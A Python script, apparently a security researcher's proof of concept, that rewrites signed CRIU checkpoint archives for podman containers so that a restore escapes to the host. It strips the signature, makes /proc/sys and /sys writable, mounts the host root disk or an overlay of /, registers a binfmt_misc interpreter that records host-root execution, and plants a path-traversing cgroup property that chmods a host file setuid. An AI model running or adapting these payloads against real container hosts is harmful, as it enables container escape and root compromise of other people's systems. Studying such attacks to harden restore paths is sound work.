"""attack30d: an edited copy of a real gpuckpt export whose CRIU images (not credentials) are changed.
usage: edit.py SRC OUT MODE     (run with /usr/bin/python3: crit/pycriu are Debian's)
Every mode removes checkpoint/gpuckpt-dump.sig (the images are covered by it: an unsigned dump, which
only restore:any or an archive: exception lets in). spec.dump/config.dump are left as exported.
MODE nosig:     the images unchanged (control: the restore works and the container is as podman made it).
MODE procsysrw: mountpoints: the /proc/sys read-only bind loses MS_RDONLY (flags & ~1).
MODE procsysdel: mountpoints: the /proc/sys bind (podman's readonlyPaths) is removed altogether.
MODE binfmt:    mountpoints: a binfmt_misc mount at /mnt (fstype 4, a new mnt_id and root_dev), and
                checkpoint/binfmt-misc.img registering `attack30d` (extension .attack30d) whose interpreter is
                <podman's userdata of the container>/attack30d-interp, a script shipped at the archive's root.
                (CRIU did not register it on this node: the entry never appeared; the mount is what matters.)
MODE binfmtmnt: the binfmt_misc mount alone (no extra image, no extra archive entry).
MODE cgprop:    cgroup.img: a new child cgroup under the container's hugetlb cgroup with a property named
                ../../(x40)var/tmp/attack30d/victim, value "attack30d-written-by-criu", perms mode 04777 uid 0.
MODE extroot:   mountpoints: the external /dev/shm bind's root = /../../(...) (does CRIU join it to runc's source?).
MODE sysrw:     mountpoints: the /sys mount loses MS_RDONLY (mount and superblock flags).
MODE devtmpfs, debugfs, tracefs, securityfs: mountpoints: a mount of that type at /mnt.
MODE autoext4:  mountpoints: fstype AUTO, fsname ext4, source /dev/vda (the host's root disk) at /mnt.
MODE overlayhost: mountpoints: an overlay at /mnt, options lowerdir=/ (resolved where CRIU mounts it).
"""
import io, json, os, struct, subprocess, sys, tarfile, tempfile
import zstandard

src, out, mode = sys.argv[1:4]
VICTIM = "/var/tmp/attack30d/victim"  # a host file of root's: CRIU writes its start and chmods it
INTERP = "#!/bin/sh\n{ echo \"HOST ROOT via binfmt_misc: $(id) file=$1\"; readlink /proc/self/ns/mnt; } > /var/tmp/attack30d/binfmt-ran\n"


def crit(data, fn):
    with tempfile.TemporaryDirectory() as d:
        img, js = f"{d}/x.img", f"{d}/x.json"
        if data is not None:
            open(img, "wb").write(data)
            subprocess.run(["crit", "decode", "-i", img, "-o", js], check=True)
            doc = json.load(open(js))
        else:
            doc = None
        doc = fn(doc)
        json.dump(doc, open(js, "w"))
        subprocess.run(["crit", "encode", "-i", js, "-o", img], check=True)
        return open(img, "rb").read()


def binfmt_image(name, interpreter, extension):
    """checkpoint/binfmt-misc.img by hand (pycriu has no handler for it): IMG_COMMON, BINFMT_MISC magics, then
    one length-prefixed binfmt_misc_entry {1 name, 2 enabled, 3 interpreter, 4 flags, 5 extension}."""
    def field(number, value):
        value = value.encode()
        size, n = b"", len(value)
        while True:  # varint length
            size += bytes([(n & 0x7f) | (0x80 if n > 0x7f else 0)]); n >>= 7
            if not n:
                return bytes([number << 3 | 2]) + size + value
    entry = field(1, name) + bytes([2 << 3, 1]) + field(3, interpreter) + field(4, "") + field(5, extension)
    return struct.pack("<III", 0x54564319, 0x67343323, len(entry)) + entry


# mode: (fstype, source, options, fsname) of a mount added at /mnt
EXTRA = {"devtmpfs": (3, "devtmpfs", ""), "debugfs": (11, "debugfs", ""), "tracefs": (19, "tracefs", ""),
         "securityfs": (9, "securityfs", ""),
         "autoext4": (16, "/dev/vda", "", "ext4"),  # AUTO with an fsname: the host's root disk
         "overlayhost": (17, "overlay", "lowerdir=/")}  # an overlay whose lower layer is the restorer's /


def extra_mount(entries, fstype, source, options="", fsname=None):
    root = next(e for e in entries if e["mountpoint"] == "/")
    entries.append({"fstype": fstype, "mnt_id": 777, "root_dev": 0xff309, "parent_mnt_id": root["mnt_id"],
                    "flags": 0x20000e, "root": "/", "mountpoint": "/mnt",
                    "source": source, "options": options, "shared_id": 0, "master_id": 0, "sb_flags": 0})
    if fsname:
        entries[-1]["fsname"] = fsname


def mounts(doc):
    entries = doc["entries"]
    if mode == "procsysrw":
        for e in entries:
            if e["mountpoint"] == "/proc/sys":
                e["flags"] = e["flags"] & ~1  # MS_RDONLY
    elif mode == "procsysdel":
        doc["entries"] = [e for e in entries if e["mountpoint"] != "/proc/sys"]
    elif mode in ("binfmt", "binfmtmnt"):
        extra_mount(entries, 4, "binfmt_misc")
    elif mode == "sysrw":
        for e in entries:
            if e["mountpoint"] == "/sys":
                e["flags"], e["sb_flags"] = e["flags"] & ~1, e.get("sb_flags", 0) & ~1
    elif mode == "extroot":  # the external /dev/shm bind (runc gives its source) with a root climbing out of it
        for e in entries:
            if e["mountpoint"] == "/dev/shm":
                e["root"] = "/../../../../../../../../.."
    elif mode in EXTRA:
        extra_mount(entries, *EXTRA[mode])
    return doc


def cgroups(doc):
    """A new child cgroup `attack30d` under the container's hugetlb cgroup (CRIU creates it, soft mode, and then
    writes its properties) whose one property's name climbs out of CRIU's cgroup yard to a host file."""
    for controller in doc["entries"][0]["controllers"]:
        if controller["cnames"] == ["hugetlb"]:
            controller["dirs"][0].setdefault("children", []).append({
                "dir_name": "attack30d", "dir_perms": {"mode": 0o40755, "uid": 0, "gid": 0},
                "properties": [{"name": "../" * 40 + VICTIM.lstrip("/"), "value": "attack30d-written-by-criu",
                                "perms": {"mode": 0o104777, "uid": 0, "gid": 0}}]})
    return doc


with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as tin:
    members = [(m, tin.extractfile(m).read() if m.isfile() else None) for m in tin]
cid = next(json.loads(d)["id"] for m, d in members if m.name == "config.dump")
ud = f"/var/lib/containers/storage/overlay-containers/{cid}/userdata"
with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, data in members:
        if m.name == "checkpoint/gpuckpt-dump.sig":
            continue
        if m.name.startswith("checkpoint/mountpoints-") and mode not in ("nosig", "cgprop"):
            data = crit(data, mounts)
        if m.name == "checkpoint/cgroup.img" and mode == "cgprop":
            data = crit(data, cgroups)
        if data is not None:
            m.size = len(data); tout.addfile(m, io.BytesIO(data))
        else:
            tout.addfile(m)
    if mode == "binfmt":
        data = binfmt_image(name="attack30d", interpreter=f"{ud}/attack30d-interp", extension="attack30d")
        info = tarfile.TarInfo("checkpoint/binfmt-misc.img"); info.size, info.mode = len(data), 0o644
        tout.addfile(info, io.BytesIO(data))
        data = INTERP.encode()
        info = tarfile.TarInfo("attack30d-interp"); info.size, info.mode = len(data), 0o755
        tout.addfile(info, io.BytesIO(data))
print(out, cid)
